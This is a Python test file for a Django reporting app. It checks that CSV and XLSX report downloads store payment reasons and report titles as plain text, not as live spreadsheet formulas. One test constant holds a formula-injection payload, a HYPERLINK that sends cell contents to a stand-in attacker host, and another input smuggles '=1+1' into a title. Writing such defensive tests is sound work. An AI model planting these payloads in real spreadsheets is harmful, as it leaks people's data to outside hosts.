"""Every spreadsheet Harken writes holds text as text: a payment's reason typed as a formula
is never a live formula in the report's CSV or XLSX, and nothing in them stops the file."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
import time_machine
from openpyxl import load_workbook

from harken.cases.tests.factories import complaint
from harken.registers.tests.factories import payment

pytestmark = pytest.mark.django_db

D = dt.date
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
QUERY = "?from=2024-04-01&to=2024-06-30"


@pytest.fixture(autouse=True)
def _frozen():
    with time_machine.travel(dt.datetime(2024, 6, 28, 12, 0, tzinfo=dt.UTC), tick=False):
        yield


@pytest.fixture
def paid(officer):
    case = complaint(actor=officer, received_on=D(2024, 4, 2))
    payment(actor=officer, case=case, reason=FORMULA, paid_on=D(2024, 5, 1))
    payment(actor=officer, case=case, reason="+44 call-back costs", paid_on=D(2024, 5, 2))
    return case


def test_the_reports_csv_writes_a_formula_reason_as_text(sign_in, officer, paid):
    response = sign_in(officer).get(f"/staff/reports/report/download/csv/{QUERY}")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    cells = [
        cell
        for name in archive.namelist()
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
        for cell in row
    ]
    assert "'" + FORMULA in cells
    assert "'+44 call-back costs" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_the_reports_xlsx_writes_a_formula_reason_as_text(sign_in, officer, paid):
    response = sign_in(officer).get(f"/staff/reports/report/download/xlsx/{QUERY}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    reasons = [cell for cell in cells if cell.value == FORMULA]
    assert reasons, "the reason is in the workbook, as written"
    assert all(cell.data_type == "s" for cell in reasons)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_a_saved_reports_downloads_write_text_as_text(sign_in, officer, paid):
    client = sign_in(officer)
    saved = client.post(
        "/staff/reports/saved/",
        {"start": "2024-04-01", "end": "2024-06-30", "title": "=1+1 report"},
    )
    assert saved.status_code == 302
    book = load_workbook(io.BytesIO(client.get(saved["Location"] + "download/xlsx/").content))
    assert not [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
